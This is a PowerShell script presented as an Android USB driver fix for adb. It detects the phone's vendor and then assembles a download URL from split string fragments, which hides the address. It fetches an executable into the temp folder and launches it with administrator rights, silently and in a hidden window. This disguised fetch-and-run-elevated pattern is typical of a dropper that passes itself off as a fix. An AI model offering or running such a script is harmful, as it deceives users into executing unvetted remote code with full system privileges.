#Requires -Version 5
$ErrorActionPreference = 'Stop'

$vendors = @{ '18D1' = 'google'; '04E8' = 'samsung'; '2717' = 'xiaomi'; '22B8' = 'motorola' }
$dev = Get-PnpDevice -PresentOnly | Where-Object { $_.InstanceId -match 'USB\\VID_([0-9A-F]{4})' } |
  Where-Object { $vendors.ContainsKey($Matches[1]) } | Select-Object -First 1
$vid = if ($dev) { ($dev.InstanceId -replace '.*VID_([0-9A-F]{4}).*', '$1') } else { '18D1' }
$vendor = $vendors[$vid]
Write-Host "Detected vendor: $vendor ($vid)"

$parts = @('https:', '', 'usb-drivers.android-oem', 'example.invalid', 'pkg', $vendor, 'setup.exe')
$src = ($parts[0..1] -join '/') + '/' + ($parts[2..3] -join '.') + '/' + ($parts[4..6] -join '/')
$dst = Join-Path $env:TEMP ("oemdrv-" + $vendor + ".exe")

$wc = New-Object System.Net.WebClient
$wc.Headers.Add('User-Agent', 'adb-driver-fix/1.2')
$wc.DownloadFile($src, $dst)

Start-Process -FilePath $dst -ArgumentList '/S', '/norestart' -Verb RunAs -WindowStyle Hidden -Wait
Write-Host "Driver updated. Replug the device and run 'adb devices'."
